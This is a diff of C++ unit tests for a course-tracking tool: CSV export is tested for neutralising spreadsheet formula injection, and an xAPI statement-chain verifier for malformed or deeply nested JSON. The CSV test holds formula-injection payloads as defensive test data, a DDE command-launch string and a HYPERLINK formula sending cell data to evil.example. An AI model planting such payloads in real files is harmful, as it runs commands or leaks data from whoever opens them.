@@ -208,3 +208,83 @@ TEST_CASE("the report shows completion, scores and each question's correct first
     CHECK(r.checks[0].correct == 1);
     CHECK(r.checks[0].share() == 0.5);
 }
+
+TEST_CASE("CSV text cells that a spreadsheet would run as a formula are neutralised; numbers stay numbers") {
+    TempDir dir;
+    // A lesson whose title starts with "@", as a course author might write it.
+    Course edited = *small_course();
+    edited.lessons[0].title.spans = {Span{"@SUM(1+1)*cmd|' /C calc'!A0"}};
+    edited.lessons[1].title.spans = {Span{"-Lektion 2"}};
+    const CoursePtr course = std::make_shared<const Course>(edited);
+    Store store(dir.path());
+    for (const char* name :
+         {"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik\")", "-2+3", "+45 12 34 56 78", "@Ann"}) {
+        const Learner l = store.create_learner(name);
+        Session s(course, {}, store.sink(l.id, *course));
+        s.open_lesson(0);
+        s.answer_check("l1.check", pick(course->lessons[0].checks[0], true));
+    }
+    std::ostringstream out;
+    write_csv(out, store, {std::nullopt, course.get()});
+    const std::vector<std::string> rows = lines(out.str().substr(3));
+    REQUIRE(rows.size() == 1 + 4 * 2);
+    // Sorted by folded name: "+45…", "-2+3", "=HYPERLINK…", "@Ann".
+    CHECK_THAT(rows[1], Catch::StartsWith(
+                            "'+45 12 34 56 78,c,1,lesson,l1,'@SUM(1+1)*cmd|' /C calc'!A0,no,1,1,100.0,"));
+    CHECK_THAT(rows[2], Catch::StartsWith("'+45 12 34 56 78,c,,lesson,l2,'-Lektion 2,no,,,,"));
+    CHECK_THAT(rows[3], Catch::StartsWith("'-2+3,c,1,lesson,l1,"));
+    CHECK_THAT(rows[5], Catch::StartsWith(
+                            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Klik\"\")\",c,1,lesson,"));
+    CHECK_THAT(rows[7], Catch::StartsWith("'@Ann,c,1,"));
+    for (const std::string& row : rows) {
+        INFO(row);
+        // No cell, quoted or not, begins with a formula character.
+        bool start = true, quoted = false;
+        for (std::size_t i = 0; i < row.size(); ++i) {
+            const char c = row[i];
+            if (start && c == '"') {
+                quoted = true;
+                continue;
+            }
+            if (start) CHECK(std::string("=+-@\t\r").find(c) == std::string::npos);
+            start = false;
+            if (quoted && c == '"' && i + 1 < row.size() && row[i + 1] == '"') ++i;
+            else if (quoted && c == '"') quoted = false;
+            else if (!quoted && c == ',') start = true;
+        }
+    }
+    CHECK(csv_field("=1+2") == "'=1+2");
+    CHECK(csv_field("\tx") == "'\tx");
+    CHECK(csv_field("\rx") == "\"'\rx\"");
+    CHECK(csv_field("=a,b") == "\"'=a,b\"");
+    CHECK(csv_field("\xEF\xBC\x9D"
+                    "1+2") ==
+          "'\xEF\xBC\x9D"
+          "1+2");  // a full-width "=", which Excel reads as "="
+    CHECK(csv_field("a=b") == "a=b");
+    CHECK(csv_field("") == "");
+}
+
+TEST_CASE("an empty array of statements is not an intact chain") {
+    const ChainCheck c = verify_xapi_chain("[]");
+    CHECK_FALSE(c.intact);
+    CHECK(c.message == "no statements");
+    CHECK_FALSE(verify_xapi_chain(" [ ]\n").intact);
+}
+
+TEST_CASE("malformed JSON is reported with its line and column") {
+    const ChainCheck c = verify_xapi_chain("[\n  {\"id\": 1},\n  {\"id\": tru}\n]");
+    CHECK_FALSE(c.intact);
+    CHECK(c.line == 3);
+    CHECK(c.column == 13);
+    CHECK_THAT(c.message, Catch::StartsWith("not valid JSON: ") && Catch::Contains("tru"));
+    // Columns count characters, not bytes.
+    const ChainCheck wide = verify_xapi_chain("[\"æøå\" x]");
+    CHECK(wide.line == 1);
+    CHECK(wide.column == 8);
+    // Nesting deep enough to exhaust the stack of a recursive reader is refused before reading it.
+    const std::string deep = "[" + std::string(100000, '[') + std::string(100000, ']') + "]";
+    const ChainCheck d = verify_xapi_chain(deep);
+    CHECK_FALSE(d.intact);
+    CHECK_THAT(d.message, Catch::Contains("nested deeper than"));
+}
